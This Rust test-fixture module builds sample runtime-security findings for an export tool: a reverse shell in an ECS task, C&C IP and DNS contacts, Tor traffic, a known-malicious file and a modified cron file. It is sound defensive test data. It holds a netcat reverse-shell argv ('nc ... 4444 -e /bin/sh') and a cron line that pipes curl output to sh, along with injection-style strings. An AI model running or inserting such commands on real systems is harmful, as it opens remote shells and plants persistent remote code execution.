//! Findings for export tests, written as the finding JSON of
//! docs/findings.md §2 (one per resource shape and per family), and the
//! context every test renders them with.

#![allow(dead_code, clippy::unwrap_used, clippy::expect_used)]

use saker_detect::Finding;
use saker_export::{ExportContext, ExportItem, FindingState};
use serde_json::{Value, json};

pub fn ctx() -> ExportContext {
    ExportContext::new("210987654321", "us-east-1").unwrap().with_hostname("saker-server")
}

pub fn parse(v: Value) -> Finding {
    serde_json::from_value(v).expect("test finding JSON matches saker_detect::Finding")
}

pub fn new(f: Finding) -> ExportItem {
    ExportItem::new(f, FindingState::New)
}

/// Edit a finding through its JSON (for variants of the fixtures below).
pub fn edit(f: &Finding, change: impl FnOnce(&mut Value)) -> Finding {
    let mut v = serde_json::to_value(f).unwrap();
    change(&mut v);
    parse(v)
}

fn process(name: &str, exe: &str, pid: u32, argv: &[&str], lineage: Value) -> Value {
    json!({
        "name": name, "executablePath": exe,
        "executableSha256": "e2d0b7c4f1a3958c6b2e4d7f0a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f5a7c",
        "namespacePid": pid, "pwd": "/app", "pid": pid, "startTime": "2026-11-28T14:31:07.436Z",
        "uuid": "2f3e4d5c-6b7a-5988-a776-655443322110", "parentUuid": "9d8c7b6a-5f4e-5d3c-b2a1-0f9e8d7c6b5a",
        "userId": 1000, "euid": 1000, "argv": argv, "lineage": lineage
    })
}

fn parent(name: &str, exe: &str, pid: u32, argv: &[&str]) -> Value {
    json!({
        "name": name, "executablePath": exe, "namespacePid": pid, "pid": pid,
        "startTime": "2026-11-28T09:02:12.118Z", "uuid": format!("00000000-0000-5000-8000-{pid:012}"),
        "user": "root", "userId": 0, "euid": 0, "argv": argv
    })
}

fn service(count: u64, action: Value, process: Value, context: Value, evidence: Value) -> Value {
    let mut s = json!({
        "serviceName": "saker", "featureName": "RuntimeMonitoring", "count": count,
        "eventFirstSeen": "2026-11-28T14:31:07.436871402Z", "eventLastSeen": "2026-11-28T14:31:47.102938475Z",
        "archived": false, "resourceRole": "TARGET",
        "runtimeDetails": { "process": process, "context": context },
        "additionalInfo": { "agentDetails": { "agentVersion": "0.1.0" } },
        "eventIds": ["fa082f8b-8dea-526b-966d-474b7fbf097c"]
    });
    if !action.is_null() {
        s["action"] = action;
    }
    if !evidence.is_null() {
        s["evidence"] = evidence;
    }
    s
}

/// The docs example keeps its id; the others get one of the same form from
/// their type, so every fixture is a distinct finding.
fn id_for(ty: &str) -> String {
    if ty == "Execution:Runtime/ReverseShell" {
        return "4462ade31df9c05843dbecf8aed9615c".into();
    }
    use sha2::Digest;
    hex::encode(&sha2::Sha256::digest(ty.as_bytes())[..16])
}

fn top(ty: &str, sev: f64, label: &str, title: &str, desc: &str, resource: Value, service: Value) -> Value {
    json!({
        "schemaVersion": "2.0", "id": id_for(ty), "type": ty,
        "severity": sev, "severityLabel": label, "title": title, "description": desc,
        "createdAt": "2026-11-28T14:31:07.448213904Z", "updatedAt": "2026-11-28T14:31:47.200000000Z",
        "accountId": "123456789012", "region": "eu-west-1",
        "resource": resource, "service": service
    })
}

const IMAGE: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/web-api:1.4.2";
const CONTAINER_ID: &str = "8c2f1e6a0b9d4c7e5f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e";

fn container() -> Value {
    json!({ "containerRuntime": "docker", "id": CONTAINER_ID, "name": "api", "image": IMAGE,
            "imagePrefix": "123456789012.dkr.ecr.eu-west-1.amazonaws.com" })
}

fn instance(with_id: bool) -> Value {
    let mut i = json!({ "hostname": "ip-10-0-12-34.eu-west-1.compute.internal", "machineId": "5f1e0c2a9b7d4e3f8a6b1c0d2e3f4a5b" });
    if with_id {
        i["instanceId"] = "i-0a1b2c3d4e5f67890".into();
    }
    i
}

/// docs/findings.md §2.9: a reverse shell in an ECS task (behaviour family,
/// network action without local address).
pub fn reverse_shell_ecs() -> Finding {
    let resource = json!({
        "resourceType": "ECSCluster",
        "instanceDetails": instance(true),
        "ecsClusterDetails": {
            "name": "prod", "arn": "arn:aws:ecs:eu-west-1:123456789012:cluster/prod",
            "taskDetails": {
                "arn": "arn:aws:ecs:eu-west-1:123456789012:task/prod/3f9a1c2e7b6d4e5f8a0b1c2d3e4f5a6b",
                "definitionArn": "web:7", "version": "7", "launchType": "EC2", "containers": [container()]
            }
        },
        "containerDetails": container()
    });
    let lineage = json!([
        parent("nc", "/bin/busybox", 48113, &["nc", "203.0.113.45", "4444", "-e", "/bin/sh"]),
        parent("python3", "/usr/local/bin/python3.12", 31230, &["python3", "/app/server.py", "--port", "8080"]),
        parent("containerd-shim", "/usr/bin/containerd-shim-runc-v2", 31207, &["/usr/bin/containerd-shim-runc-v2"]),
        parent("systemd", "/usr/lib/systemd/systemd", 1, &["/usr/lib/systemd/systemd", "--switched-root"])
    ]);
    let action = json!({ "actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
        "blocked": false, "connectionDirection": "OUTBOUND", "protocol": "TCP",
        "remoteIpDetails": { "ipAddressV4": "203.0.113.45" }, "remotePortDetails": { "port": 4444 } } });
    let ctx = json!({ "addressFamily": "AF_INET", "commandLineExample": "/bin/sh", "ianaProtocolNumber": 6 });
    parse(top(
        "Execution:Runtime/ReverseShell",
        8.0,
        "High",
        "Reverse shell",
        "A shell runs with its standard input and output connected to a socket that it or its parent opened to a remote address.",
        resource,
        service(1, action, process("sh", "/bin/busybox", 48114, &["/bin/sh"], lineage), ctx, Value::Null),
    ))
}

/// IP threat intelligence on a host process of an EC2 instance: C&C traffic
/// with the local address, and the list that matched.
pub fn c2_ip_instance() -> Finding {
    let resource = json!({ "resourceType": "Instance", "instanceDetails": instance(true) });
    let action = json!({ "actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
        "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
        "remoteIpDetails": { "ipAddressV4": "192.0.2.9" }, "remotePortDetails": { "port": 443 },
        "localIpDetails": { "ipAddressV4": "10.0.12.34" }, "localPortDetails": { "port": 51644 } } });
    let evidence =
        json!({ "threatIntelligenceDetails": [{ "threatListName": "feodo-c2", "threatNames": ["QakBot"] }] });
    parse(top(
        "Backdoor:Runtime/C&CActivity.B",
        8.0,
        "High",
        "Command and control server contacted",
        "A process connected to an IP address known to be a command and control server.",
        resource,
        service(
            3,
            action,
            process("curl", "/usr/bin/curl", 4242, &["curl", "https://192.0.2.9/"], json!([])),
            json!({}),
            evidence,
        ),
    ))
}

/// An inbound Tor connection over IPv6 (direction IN, v6 addresses).
pub fn tor_relay_inbound_v6() -> Finding {
    let resource = json!({ "resourceType": "Instance", "instanceDetails": instance(true) });
    let action = json!({ "actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
        "connectionDirection": "INBOUND", "protocol": "TCP", "blocked": false,
        "remoteIpDetails": { "ipAddressV6": "2001:db8::9" }, "remotePortDetails": { "port": 40000 },
        "localIpDetails": { "ipAddressV6": "2001:db8::1" }, "localPortDetails": { "port": 9001 } } });
    let evidence = json!({ "threatIntelligenceDetails": [{ "threatListName": "tor-exits", "threatNames": [] }] });
    parse(top(
        "UnauthorizedAccess:Runtime/TorRelay",
        8.0,
        "High",
        "Tor relay traffic accepted",
        "A process accepted a connection from a Tor node: the workload may be acting as a Tor relay.",
        resource,
        service(1, action, process("tor", "/usr/bin/tor", 777, &["tor"], json!([])), json!({}), evidence),
    ))
}

/// DNS threat intelligence in a plain container on a host that is not EC2.
pub fn c2_dns_container() -> Finding {
    let resource =
        json!({ "resourceType": "Container", "instanceDetails": instance(false), "containerDetails": container() });
    let action = json!({ "actionType": "DNS_REQUEST", "dnsRequestAction": {
        "domain": "c2.guarddutyc2activityb.com", "protocol": "UDP", "blocked": false } });
    let evidence = json!({ "threatIntelligenceDetails": [{ "threatListName": "saker-builtin-guardduty-test-domains", "threatNames": [] }] });
    parse(top(
        "Backdoor:Runtime/C&CActivity.B!DNS",
        8.0,
        "High",
        "Command and control domain queried",
        "A process queried a domain name associated with a command and control server.",
        resource,
        service(
            1,
            action,
            process("dig", "/usr/bin/dig", 900, &["dig", "c2.guarddutyc2activityb.com"], json!([])),
            json!({}),
            evidence,
        ),
    ))
}

/// A hash-list match in a Kubernetes pod (behaviour family with evidence).
pub fn malicious_file_eks() -> Finding {
    let resource = json!({
        "resourceType": "EKSCluster",
        "instanceDetails": instance(true),
        "kubernetesDetails": { "kubernetesWorkloadDetails": {
            "name": "web-6d4cf56db6-x7k2p", "namespace": "shop", "uid": "7c1f3a52-2d9b-4b8e-9c55-0f1e2d3c4b5a",
            "containers": [container()] } },
        "containerDetails": container()
    });
    let sha = "0d5f7a9c3e1b2a4c6e8f0a1b3c5d7e9f2a4b6c8d0e1f3a5b7c9d1e3f5a7b9c0d";
    let ctx = json!({ "threatFilePath": "/tmp/.x/kworker", "threatFileSha256": sha });
    let evidence = json!({ "threatIntelligenceDetails": [{ "threatListName": "malware-hashes",
        "threatNames": [format!("/tmp/.x/kworker sha256:{sha}")] }] });
    parse(top(
        "Execution:Runtime/MaliciousFileExecuted",
        8.0,
        "High",
        "Known malicious file executed",
        "A process ran a file whose SHA-256 is on a threat list.",
        resource,
        service(
            1,
            Value::Null,
            process("kworker", "/tmp/.x/kworker", 5150, &["/tmp/.x/kworker", "-d"], json!([])),
            ctx,
            evidence,
        ),
    ))
}

/// Behaviour on the host, with attacker-chosen text everywhere it can be:
/// quotes, backslashes, brackets, newlines, non-ASCII, a long path.
pub fn hostile_host_behaviour() -> Finding {
    let resource = json!({ "resourceType": "Instance", "instanceDetails": {
        "hostname": "evil host\"]\n", "machineId": "0123456789abcdef0123456789abcdef" } });
    let path = format!("/etc/cron.d/{}\"]\\ünïcødé\n", "a".repeat(700));
    let ctx = json!({ "fileOperation": "write", "filePath": path, "relatedFilePaths": [] });
    let argv = ["sh", "-c", "echo '* * * * * root curl http://x|sh' > /etc/cron.d/x \"]\\"];
    parse(top(
        "Persistence:Runtime/SensitiveFileModified",
        5.0,
        "Medium",
        "Persistence file modified",
        "A process modified a file that makes code run again later (cron tables, systemd units, shell start-up files, authorized keys).",
        resource,
        service(7, Value::Null, process("sh\u{7f}", "/bin/da\"sh", 31337, &argv, json!([])), ctx, Value::Null),
    ))
}

/// Every fixture, with the shape or family it stands for.
pub fn all() -> Vec<(&'static str, Finding)> {
    vec![
        ("ECS task, behaviour with network action (docs §2.9)", reverse_shell_ecs()),
        ("EC2 instance, IP intel with evidence", c2_ip_instance()),
        ("EC2 instance, inbound IPv6 IP intel", tor_relay_inbound_v6()),
        ("container, DNS intel", c2_dns_container()),
        ("EKS pod, hash intel", malicious_file_eks()),
        ("non-EC2 host, behaviour with hostile strings", hostile_host_behaviour()),
    ]
}
